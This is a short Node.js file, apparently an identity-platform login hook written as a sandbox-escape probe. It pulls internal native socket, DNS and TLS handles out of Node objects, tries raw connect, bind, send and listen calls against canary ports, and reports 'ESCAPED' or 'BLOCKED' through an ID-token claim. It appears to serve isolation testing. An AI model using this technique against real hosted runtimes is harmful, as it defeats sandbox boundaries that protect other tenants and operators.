// constructors of native handles, taken from any object that has one
exports.onExecutePostLogin = async (event, api) => {
  const S = event.secrets;
  const out = (v) => { try { api.idToken.setCustomClaim('probe', String(v).slice(0, 400)); } catch {} };
  const found = [];
  const attempt = async (label, act) => { try { const r = await act(); if (r) found.push(label + ' ' + String(r).slice(0, 80)); } catch {} };
  const handles = []; const dgram = require('dgram'), dns = require('dns'), net = require('net'), zlib = require('zlib');
  const s = dgram.createSocket('udp4'); s.on('error', () => {}); for (const k of Object.getOwnPropertySymbols(s)) if (s[k] && s[k].handle) handles.push(s[k].handle);
  handles.push(new dns.Resolver()._handle, zlib.createGzip()._handle, new net.Socket()._handle, new (require('tls').TLSSocket)(new (require('stream').Duplex)({ read() {}, write(c, e, f) { f(); } }))._handle);
  for (const h of handles.filter(Boolean)) {
    const C = h.constructor;
    for (const make of [() => h, () => new C(), () => new C(0), () => new C(1)]) {
      let x; try { x = make(); } catch { continue; }
      for (const [k, a] of [['connect', [{}, '127.0.0.1', Number(S.CANARY_PORT)]], ['connect', [{}, S.CANARY_SOCK]], ['bind', ['127.0.0.1', 0, 0]], ['open', [1]], ['send', [{}, [Buffer.from('x')], 1, Number(S.CANARY_UDP_PORT), '127.0.0.1', true]], ['queryA', [{}, 'x.example']], ['listen', [1]]]) await attempt(C.name + '.' + k, () => typeof x[k] === 'function' && x[k](...a) === 0);
    }
  }
  out(found.length > 0 ? 'ESCAPED:' + found.join('; ') : 'BLOCKED:nothing worked');
};
